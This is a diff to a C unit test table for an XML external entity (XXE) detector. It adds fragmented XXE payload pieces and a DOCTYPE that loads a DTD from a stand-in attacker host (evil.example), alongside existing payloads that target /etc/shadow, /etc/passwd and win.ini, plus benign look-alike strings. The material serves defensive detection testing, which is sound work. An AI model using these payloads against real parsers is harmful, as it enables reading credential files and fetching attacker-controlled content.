@@ -505,7 +505,20 @@ static void test_xxe(void **st)
 		{"<r xsi:schemaLocation=\"urn:x ..\\..\\windows\\win.ini\"/>", X},
 		{"<svg><image xlink:href=\"netdoc:/etc/shadow\"/></svg>", X},
 		{"<svg><use href=\"/etc/passwd#x\"/></svg>", X},
+		/* an XXE example split one line a value, as payload lists do; a
+		 * W3C identifier with the DTD fetched from elsewhere */
+		{"<!ELEMENT foo ANY >", X},
+		{"<!ATTLIST r id CDATA #IMPLIED>", X},
+		{"%xxe;]>", X},
+		{" %trick; ]>", X},
+		{"%int;", X},
+		{"]><foo>&xxe;</foo>", X},
+		{"<!DOCTYPE html PUBLIC \"-//W3C//DTD XHTML 1.0 Strict//EN\" \"http://evil.example/x.dtd\">", X},
 		/* benign */
+		{"100%; width:50%;", N},
+		{"%s; %d;", N},
+		{"see [1]> and [2]", N},
+		{"the <!ELEMENT> declaration, explained", N},
 		{"<?xml version=\"1.0\" encoding=\"UTF-8\"?><note><to>Tove</to><body>Hi</body></note>", N},
 		{"<!DOCTYPE html><html><body>hi</body></html>", N},
 		{"<!DOCTYPE html PUBLIC \"-//W3C//DTD XHTML 1.0 Strict//EN\" \"http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd\">", N},
